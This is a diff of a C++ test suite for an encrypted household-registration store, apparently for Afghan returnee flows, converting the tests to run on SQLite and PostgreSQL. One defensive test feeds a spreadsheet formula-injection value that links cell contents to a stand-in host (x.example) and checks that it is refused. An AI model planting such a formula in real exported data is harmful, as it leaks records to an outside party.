@@ -1,14 +1,13 @@
 #include "store/store.h"
 
 #include <gtest/gtest.h>
-#include <sqlite3.h>
 
 #include <fstream>
 #include <set>
 #include <sstream>
 #include <thread>
 
-#include "../testing/temp_dir.h"
+#include "../testing/test_database.h"
 
 namespace sanad::store {
 namespace {
@@ -46,24 +45,31 @@ Household FamilyInBothScripts() {
   return h;
 }
 
-class StoreTest : public ::testing::Test {
+// Runs on SQLite and on PostgreSQL (testing/test_database.h).
+class StoreTest : public ::testing::TestWithParam<sanad::testing::Backend> {
  protected:
-  void SetUp() override { Reopen(); }
+  void SetUp() override {
+    if (!db_.Create()) return;
+    Reopen();
+  }
   void Reopen() {
     store_.reset();
-    auto s =
-        Store::OpenSqliteFile(dir_.File("site.db"), KeyRing::FromMasterKey(FixedKey(7)), clock_);
+    auto s = db_.OpenStore(KeyRing::FromMasterKey(FixedKey(7)), clock_);
     ASSERT_TRUE(s) << s.error().message;
     store_ = std::move(*s);
   }
-  std::string RawFiles() { return dir_.Contents({"site.db", "site.db-wal"}); }
-  sanad::testing::TempDir dir_;
+  // Everything stored, as bytes: the files, or every value read back (PostgreSQL).
+  std::string RawFiles() { return db_.RawContents(); }
+  sanad::testing::TestDatabase db_{GetParam()};
   // The store's clock: stands still until a test moves it.
   TestClock clock_{TestClock::FromIso(2025, 9, 1, 8)};
   std::unique_ptr<Store> store_;
 };
 
-TEST_F(StoreTest, CreatesAndReadsBackAHouseholdExactly) {
+INSTANTIATE_TEST_SUITE_P(Backends, StoreTest, sanad::testing::BothBackends(),
+                         sanad::testing::BackendName);
+
+TEST_P(StoreTest, CreatesAndReadsBackAHouseholdExactly) {
   auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(created) << created.error().message;
   EXPECT_EQ(created->version, 1);
@@ -73,7 +79,7 @@ TEST_F(StoreTest, CreatesAndReadsBackAHouseholdExactly) {
   EXPECT_EQ(read->members[0].given_name, "محمد نبی");
 }
 
-TEST_F(StoreTest, StaleUpdateIsAConflictAndCurrentOneApplies) {
+TEST_P(StoreTest, StaleUpdateIsAConflictAndCurrentOneApplies) {
   auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(created);
   Household edit = *created;
@@ -88,7 +94,7 @@ TEST_F(StoreTest, StaleUpdateIsAConflictAndCurrentOneApplies) {
             "Torkham reception centre");
 }
 
-TEST_F(StoreTest, UpdateCannotSilentlyDropAMember) {
+TEST_P(StoreTest, UpdateCannotSilentlyDropAMember) {
   auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(created);
   Household edit = *created;
@@ -99,7 +105,7 @@ TEST_F(StoreTest, UpdateCannotSilentlyDropAMember) {
   EXPECT_EQ(store_->GetHousehold(created->id, kActor)->version, 1);
 }
 
-TEST_F(StoreTest, FindsByLatinSpellingOfAPersoArabicNamePhoneAndDocument) {
+TEST_P(StoreTest, FindsByLatinSpellingOfAPersoArabicNamePhoneAndDocument) {
   ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
   for (const char* query :
        {"Mohammad Nabi", "muhammad", "Abdul Rahman", "+93700123456", "PoR 4417 2291", "zarghuna"}) {
@@ -113,7 +119,7 @@ TEST_F(StoreTest, FindsByLatinSpellingOfAPersoArabicNamePhoneAndDocument) {
   EXPECT_TRUE(none->items.empty());
 }
 
-TEST_F(StoreTest, RawDatabaseFilesHoldNoNamePhoneOrDocumentNumber) {
+TEST_P(StoreTest, RawDatabaseFilesHoldNoNamePhoneOrDocumentNumber) {
   ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
   const std::string raw = RawFiles();
   ASSERT_FALSE(raw.empty());
@@ -124,17 +130,17 @@ TEST_F(StoreTest, RawDatabaseFilesHoldNoNamePhoneOrDocumentNumber) {
   }
 }
 
-TEST_F(StoreTest, WrongKeyIsRefusedAndChangesNothing) {
+TEST_P(StoreTest, WrongKeyIsRefusedAndChangesNothing) {
   ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
   store_.reset();
   const std::string before = RawFiles();
-  auto wrong = Store::OpenSqliteFile(dir_.File("site.db"), KeyRing::FromMasterKey(FixedKey(8)));
+  auto wrong = db_.OpenStore(KeyRing::FromMasterKey(FixedKey(8)));
   ASSERT_FALSE(wrong);
   EXPECT_NE(wrong.error().message.find("key does not match"), std::string::npos);
   EXPECT_EQ(RawFiles(), before);
 }
 
-TEST_F(StoreTest, ErasedPersonIsUnreadableAndTheAuditChainStaysValid) {
+TEST_P(StoreTest, ErasedPersonIsUnreadableAndTheAuditChainStaysValid) {
   auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(created);
   const std::string id = created->members[0].id;
@@ -150,38 +156,29 @@ TEST_F(StoreTest, ErasedPersonIsUnreadableAndTheAuditChainStaysValid) {
   ASSERT_TRUE(verified) << verified.error().message;
   EXPECT_GT(*verified, 3);
   // Nothing of the erased key or ciphertext is left for the master key to open.
-  sqlite3* db = nullptr;
-  ASSERT_EQ(sqlite3_open(dir_.File("site.db").c_str(), &db), SQLITE_OK);
-  sqlite3_stmt* stmt = nullptr;
-  sqlite3_prepare_v2(db,
-                     "SELECT (SELECT COUNT(*) FROM person_keys WHERE person_id = ?1) + "
-                     "(SELECT COUNT(*) FROM persons WHERE id = ?1 AND sealed IS NOT NULL)",
-                     -1, &stmt, nullptr);
-  sqlite3_bind_text(stmt, 1, id.c_str(), -1, SQLITE_TRANSIENT);
-  ASSERT_EQ(sqlite3_step(stmt), SQLITE_ROW);
-  EXPECT_EQ(sqlite3_column_int(stmt, 0), 0);
-  sqlite3_finalize(stmt);
-  sqlite3_close(db);
+  auto left = db_.Query(
+      "SELECT (SELECT COUNT(*) FROM person_keys WHERE person_id = ?) + "
+      "(SELECT COUNT(*) FROM persons WHERE id = ? AND sealed IS NOT NULL)",
+      {id, id});
+  ASSERT_TRUE(left) << left.error().message;
+  EXPECT_EQ(AsInt(left->at(0).at(0)), 0);
 }
 
-TEST_F(StoreTest, AuditVerifyNamesTheFirstAlteredEntry) {
+TEST_P(StoreTest, AuditVerifyNamesTheFirstAlteredEntry) {
   ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
   ASSERT_TRUE(store_->Audit(kActor, "person.read", "person", "x", "ok"));
   ASSERT_TRUE(store_->Audit(kActor, "person.read", "person", "y", "ok"));
   ASSERT_TRUE(store_->VerifyAudit());
-  sqlite3* db = nullptr;
-  ASSERT_EQ(sqlite3_open(dir_.File("site.db").c_str(), &db), SQLITE_OK);
-  ASSERT_EQ(sqlite3_exec(db, "UPDATE audit_log SET object_id = 'z' WHERE seq = 2", nullptr, nullptr,
-                         nullptr),
-            SQLITE_OK);
-  sqlite3_close(db);
+  auto altered = db_.Execute("UPDATE audit_log SET object_id = 'z' WHERE seq = 2");
+  ASSERT_TRUE(altered) << altered.error().message;
+  ASSERT_EQ(*altered, 1);
   auto verified = store_->VerifyAudit();
   ASSERT_FALSE(verified);
   EXPECT_EQ(verified.error().line, 2);
   EXPECT_NE(verified.error().message.find("entry 2"), std::string::npos);
 }
 
-TEST_F(StoreTest, LoginSessionsAndIdleExpiry) {
+TEST_P(StoreTest, LoginSessionsAndIdleExpiry) {
   EXPECT_EQ(store_->CreateUser("reg1", Role::kRegistrar, "short", kActor).error().field,
             "password");
   ASSERT_TRUE(store_->CreateUser("reg1", Role::kRegistrar, "correct horse battery", kActor));
@@ -204,7 +201,7 @@ TEST_F(StoreTest, LoginSessionsAndIdleExpiry) {
   EXPECT_FALSE(store_->Login("reg1", "correct horse battery", kActor));
 }
 
-TEST_F(StoreTest, MovementsLinkPeopleAndFilterByDateAndCrossing) {
+TEST_P(StoreTest, MovementsLinkPeopleAndFilterByDateAndCrossing) {
   auto h = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(h);
   Movement m;
@@ -251,7 +248,7 @@ FlowTally Tally(Date date, int64_t individuals) {
   return t;
 }
 
-TEST_F(StoreTest, TalliesAreAllOrNothingAndListedByDate) {
+TEST_P(StoreTest, TalliesAreAllOrNothingAndListedByDate) {
   ASSERT_TRUE(store_->AddTallies({Tally(Date{2025, 4, 1}, 7), Tally(Date{2025, 4, 3}, 9)}, kActor));
   FlowTally bad = Tally(Date{2025, 4, 2}, 5);
   bad.female = 4;  // does not add up to individuals
@@ -264,7 +261,7 @@ TEST_F(StoreTest, TalliesAreAllOrNothingAndListedByDate) {
   EXPECT_EQ(listed->at(0), Tally(Date{2025, 4, 1}, 7));
 }
 
-TEST_F(StoreTest, RegisteredMovementsBecomeTalliesWithoutDecrypting) {
+TEST_P(StoreTest, RegisteredMovementsBecomeTalliesWithoutDecrypting) {
   auto h = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(h);
   Movement m;
@@ -287,10 +284,10 @@ TEST_F(StoreTest, RegisteredMovementsBecomeTalliesWithoutDecrypting) {
 
 // Defect A: each search of a new shape (number of words, keys per word)
 // prepared and kept a new statement; 3,000 searches added 360 MB.
-TEST_F(StoreTest, ManyDistinctSearchesKeepTheStatementCacheBounded) {
+TEST_P(StoreTest, ManyDistinctSearchesKeepTheStatementCacheBounded) {
   store_.reset();
-  auto db = OpenSqlite(dir_.File("site.db"));
-  ASSERT_TRUE(db);
+  auto db = db_.Open();
+  ASSERT_TRUE(db) << db.error().message;
   Database* raw = db->get();
   auto opened = Store::Open(std::move(*db), KeyRing::FromMasterKey(FixedKey(7)));
   ASSERT_TRUE(opened) << opened.error().message;
@@ -318,7 +315,7 @@ TEST_F(StoreTest, ManyDistinctSearchesKeepTheStatementCacheBounded) {
 
 // Defect C: page 999999999 overflowed int (undefined behaviour) and page
 // 21474838 wrapped round to page 1.
-TEST_F(StoreTest, SearchPageOutOfRangeIsRefusedNamingPage) {
+TEST_P(StoreTest, SearchPageOutOfRangeIsRefusedNamingPage) {
   ASSERT_TRUE(store_->CreateHousehold(FamilyInBothScripts(), kActor));
   for (int page : {999999999, 21474838, kMaxSearchPage + 1, 0, -5}) {
     SCOPED_TRACE(page);
@@ -335,7 +332,7 @@ TEST_F(StoreTest, SearchPageOutOfRangeIsRefusedNamingPage) {
 
 // Defect D: a member added by an update with consents was stored with no
 // record of who took the consent; so was a changed consent.
-TEST_F(StoreTest, WhoRecordedAConsentIsKeptForNewAndChangedConsents) {
+TEST_P(StoreTest, WhoRecordedAConsentIsKeptForNewAndChangedConsents) {
   Household h = FamilyInBothScripts();
   h.members[0].consent_recorded_by.clear();
   auto created = store_->CreateHousehold(h, Actor{"registrar-1", ""});
@@ -368,7 +365,7 @@ TEST_F(StoreTest, WhoRecordedAConsentIsKeptForNewAndChangedConsents) {
 
 // Defect E: person_ids [P, P] failed with SQLite's constraint text, and a
 // person of another household was accepted under a household_id.
-TEST_F(StoreTest, MovementPeopleAreCheckedBeforeAnythingIsWritten) {
+TEST_P(StoreTest, MovementPeopleAreCheckedBeforeAnythingIsWritten) {
   auto first = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   auto second = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(first && second);
@@ -402,7 +399,7 @@ TEST_F(StoreTest, MovementPeopleAreCheckedBeforeAnythingIsWritten) {
 // Defect G: a household's destination (what registered flows publish) must
 // be a province of Afghanistan the gazetteer knows; spellings are stored
 // canonical.
-TEST_F(StoreTest, HouseholdDestinationMustBeAKnownAfghanProvince) {
+TEST_P(StoreTest, HouseholdDestinationMustBeAKnownAfghanProvince) {
   Household h = FamilyInBothScripts();
   h.destination_province = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
   auto refused = store_->CreateHousehold(h, kActor);
@@ -420,7 +417,7 @@ TEST_F(StoreTest, HouseholdDestinationMustBeAKnownAfghanProvince) {
 }
 
 // Defect B: erasure records why, in the audit chain, next to the person's id.
-TEST_F(StoreTest, ErasureNeedsAReasonAndAuditsIt) {
+TEST_P(StoreTest, ErasureNeedsAReasonAndAuditsIt) {
   auto created = store_->CreateHousehold(FamilyInBothScripts(), kActor);
   ASSERT_TRUE(created);
   const std::string id = created->members[1].id;
@@ -441,18 +438,15 @@ TEST_F(StoreTest, ErasureNeedsAReasonAndAuditsIt) {
   EXPECT_EQ(store_->ErasePerson(id, "the person asked for it", kActor).error().code,
             Error::Code::kNotFound);
   // The reason is part of the chain: editing it breaks verification.
-  sqlite3* db = nullptr;
-  ASSERT_EQ(sqlite3_open(dir_.File("site.db").c_str(), &db), SQLITE_OK);
-  ASSERT_EQ(
-      sqlite3_exec(db, "UPDATE audit_log SET detail = 'routine' WHERE action = 'person.erase'",
-                   nullptr, nullptr, nullptr),
-      SQLITE_OK);
-  sqlite3_close(db);
+  auto altered =
+      db_.Execute("UPDATE audit_log SET detail = 'routine' WHERE action = 'person.erase'");
+  ASSERT_TRUE(altered) << altered.error().message;
+  ASSERT_EQ(*altered, 1);
   EXPECT_FALSE(store_->VerifyAudit());
 }
 
 // Defect I: tallies dated after today are refused by the store too.
-TEST_F(StoreTest, TalliesInTheFutureAreRefused) {
+TEST_P(StoreTest, TalliesInTheFutureAreRefused) {
   FlowTally t;
   t.date = clock_.Today().AddDays(5);
   t.crossing_point = "Torkham";
@@ -467,7 +461,7 @@ TEST_F(StoreTest, TalliesInTheFutureAreRefused) {
 
 // "Not in the future" is the store's clock's today (plus a day for sites
 // east of UTC), and every timestamp the store writes is its clock's.
-TEST_F(StoreTest, TodayAndTimestampsComeFromTheStoresClock) {
+TEST_P(StoreTest, TodayAndTimestampsComeFromTheStoresClock) {
   FlowTally t;
   t.date = clock_.Today().AddDays(2);
   t.crossing_point = "Torkham";
@@ -492,7 +486,7 @@ TEST_F(StoreTest, TodayAndTimestampsComeFromTheStoresClock) {
 }
 
 // Defect J: importing the same file twice counted everyone twice.
-TEST_F(StoreTest, TheSameImportFileTwiceIsRefusedUnlessAgain) {
+TEST_P(StoreTest, TheSameImportFileTwiceIsRefusedUnlessAgain) {
   FlowTally t;
   t.date = Date{2025, 4, 1};
   t.crossing_point = "Torkham";
